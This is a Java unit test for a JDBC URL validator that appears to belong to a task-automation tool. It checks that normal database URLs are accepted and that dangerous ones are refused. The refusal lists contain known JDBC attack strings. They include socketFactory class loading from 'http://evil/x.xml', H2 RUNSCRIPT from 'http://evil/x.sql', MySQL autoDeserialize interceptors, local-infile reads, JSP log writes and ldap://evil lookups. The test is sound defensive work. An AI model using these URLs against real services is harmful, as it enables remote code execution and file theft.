package io.carillon.tasks.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.carillon.task.ParameterFault;
import io.carillon.tasks.Json;
import io.carillon.tasks.web.AllowedHosts;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The JDBC URLs that are understood, and what is refused in them. */
class JdbcAddressTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          jdbc:postgresql://db.example/shop | jdbc:postgresql://db.example:5432/shop
          jdbc:postgresql://a:1,b:2/shop?sslmode=require | jdbc:postgresql://a:1,b:2/shop
          jdbc:postgresql://[::1]:5433/shop | jdbc:postgresql://[::1]:5433/shop
          jdbc:postgresql://[::1]/ | jdbc:postgresql://[::1]:5432/
          jdbc:mysql://db.example/shop?useSSL=true | jdbc:mysql://db.example:3306/shop
          jdbc:mariadb://db.example/shop | jdbc:mariadb://db.example:3306/shop
          jdbc:sqlserver://db.example;databaseName=shop | jdbc:sqlserver://db.example:1433
          jdbc:oracle:thin:@//db.example:1521/shop | jdbc:oracle:thin:@//db.example:1521/shop
          jdbc:oracle:thin:@db.example:1521:shop | jdbc:oracle:thin:@db.example:1521:shop
          jdbc:clickhouse://db.example:8123/shop | jdbc:clickhouse://db.example:8123/shop
          jdbc:dm://db.example:5236 | jdbc:dm://db.example:5236
          """)
  void theDriverGetsAnAddressOfCheckedParts(String url, String driver) {
    assertThat(JdbcAddress.of(url, Map.of()).url()).isEqualTo(driver);
  }

  @Test
  void propertiesOfTheUrlAndOfTheSettingsComeTogether() {
    JdbcAddress address =
        JdbcAddress.of(
            "jdbc:postgresql://db/shop?sslmode=verify-full&currentSchema=a%20b",
            Map.of("ApplicationName", "x"));
    assertThat(address.properties())
        .containsOnly(
            Map.entry("sslmode", "verify-full"),
            Map.entry("currentSchema", "a b"),
            Map.entry("ApplicationName", "x"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://db/shop?sslfactory=x.Y",
        "jdbc:postgresql://db/shop?sslhostnameverifier=x.Y",
        "jdbc:postgresql://db/shop?sslpasswordcallback=x.Y",
        "jdbc:postgresql://db/shop?authenticationPluginClassName=x.Y",
        "jdbc:postgresql://db/shop?loggerFile=/tmp/x.jsp&loggerLevel=TRACE",
        "jdbc:postgresql://db/shop?xmlFactoryFactory=x.Y",
        "jdbc:postgresql://db/shop?service=x",
        "jdbc:postgresql://db/shop?socket%46actory=x.Y",
        "jdbc:postgresql://db/shop?SocketFactory=x.Y",
        "jdbc:postgresql://db/shop?maxResultBuffer=99G",
        "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
        "jdbc:mysql://db/shop?allowUrlInLocalInfile=true",
        "jdbc:mysql://db/shop?allowLoadLocalInfileInPath=/",
        "jdbc:mysql://db/shop?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "jdbc:mysql://db/shop?%61utoDeserialize=true",
        "jdbc:mysql://db/shop?autodeserialize=true",
        "jdbc:mysql://db/shop?allowMultiQueries=true",
        "jdbc:mysql://db/shop?propertiesTransform=x.Y",
        "jdbc:mysql://db/shop?trustCertificateKeyStoreUrl=http://evil/",
        "jdbc:mariadb://db/shop?allowLocalInfile=true",
        "jdbc:mariadb://db/shop?localSocket=/run/x",
        "jdbc:mariadb://db/shop?credentialType=x",
        "jdbc:sqlserver://db;socketFactoryClass=x.Y",
        "jdbc:sqlserver://db;trustManagerClass=x.Y",
        "jdbc:sqlserver://db;failoverPartner=10.0.0.1",
        "jdbc:sqlserver://db;serverName=10.0.0.1"
      })
  void propertiesThatLoadClassesOrReachFilesAndOtherHostsAreRefused(String url) {
    assertThatThrownBy(() -> JdbcAddress.of(url, Map.of()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("must not have the property")
        .hasMessageContaining("allowed are: ");
    String query = url.split("[?;]", 2)[1];
    String[] first = query.split("&", 2)[0].split("=", 2);
    String bare = url.split("[?;]", 2)[0];
    if (!first[0].contains("%")) {
      assertThatThrownBy(() -> JdbcAddress.of(bare, Map.of(first[0], first[1])))
          .hasMessageContaining("must not have the property \"" + first[0] + "\"");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2://host:1/x",
        "jdbc:h2:tcp://db/x",
        "jdbc:hsqldb:mem:x",
        "jdbc:derby:x;create=true",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:duckdb:",
        "jdbc:postgresql:shop",
        "jdbc:postgresql:///shop",
        "jdbc:postgresql://db:0/shop",
        "jdbc:postgresql://db:65536/shop",
        "jdbc:postgresql://db/shop#x",
        "jdbc:postgresql://user:password@db/shop",
        "jdbc:postgresql://db/shop/more",
        "jdbc:mysql:loadbalance://a,b/shop",
        "jdbc:mysql:replication://a,b/shop",
        "jdbc:mysql+srv://db/shop",
        "jdbc:mysql://address=(host=db)(autoDeserialize=true)/shop",
        "jdbc:mysql://(host=db,autoDeserialize=true)/shop",
        "jdbc:mysql://db/shop?a=%zz",
        "jdbc:mysql://db:3306/shop?user=x",
        "jdbc:sqlserver://db\\instance;databaseName=shop",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=db)))",
        "jdbc:oracle:thin:@ldap://evil/x",
        "jdbc:oracle:oci:@db",
        "jdbc:clickhouse://db/shop",
        "jdbc:clickhouse://db:8123/shop?x=y",
        "jdbc:db2://db:50000/shop:clientRerouteServerListJNDIName=ldap://evil;",
        "jdbc:jdbcx:postgresql://db/x",
        "JDBC:postgresql://db/shop",
        "jdbc:postgresql://db/shop\nx",
        "http://db/",
        ""
      })
  void otherUrlsAreRefused(String url) {
    assertThatThrownBy(() -> JdbcAddress.of(url, Map.of()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageMatching("(?s)(must|has) .*");
  }

  @Test
  void theKindNamesTheFaultyField() {
    JdbcConnectionKind kind =
        new JdbcConnectionKind(new AllowedHosts(false, Set.of()), JdbcDrivers.ofClassPath());
    assertThat(kind.check(settings("jdbc:h2:mem:x", Duration.ofMinutes(6))))
        .extracting(ParameterFault::path)
        .containsExactly("url", "connect_timeout");
    assertThat(kind.check(settings("jdbc:postgresql://${secret:host}/x", Duration.ofSeconds(1))))
        .isEmpty();
  }

  private static JdbcSettings settings(String url, Duration connect) {
    return new JdbcSettings(url, "me", null, Map.of(), true, connect, null);
  }

  @Test
  void anAddressOfAPrivateNetworkIsRefusedByTheKind() {
    JdbcConnectionKind kind =
        new JdbcConnectionKind(new AllowedHosts(false, Set.of()), JdbcDrivers.ofClassPath());
    for (String host :
        List.of("127.0.0.1:1", "localhost", "[::1]", "10.0.0.1", "1.1.1.1,10.0.0.1")) {
      assertThatThrownBy(
              () -> kind.test(settings("jdbc:postgresql://" + host + "/x", Duration.ofSeconds(1))))
          .hasMessageContaining("is not public; CARILLON_ALLOW_PRIVATE_ADDRESSES=true allows");
    }
  }

  @Test
  void aDatabaseWithoutItsDriverIsNamed() {
    JdbcConnectionKind kind =
        new JdbcConnectionKind(new AllowedHosts(true, Set.of()), JdbcDrivers.ofClassPath());
    assertThatThrownBy(() -> kind.test(settings("jdbc:mysql://127.0.0.1/x", Duration.ofSeconds(1))))
        .hasMessage(
            "This node has no JDBC driver for jdbc:mysql: put its jar into the folder of the plug-ins");
  }

  @Test
  void theTextOfSettingsHasNoPassword() {
    JdbcSettings settings =
        Json.read(
            """
            {"url": "jdbc:postgresql://db/x", "password": "s3cret",
             "properties": {"sslpassword": "s3cret"}}\
            """,
            JdbcSettings.class);
    assertThat(settings.toString()).doesNotContain("s3cret");
    assertThat(settings.readOnly()).isTrue();
    assertThat(settings.connectTimeout()).isEqualTo(Duration.ofSeconds(10));
  }
}
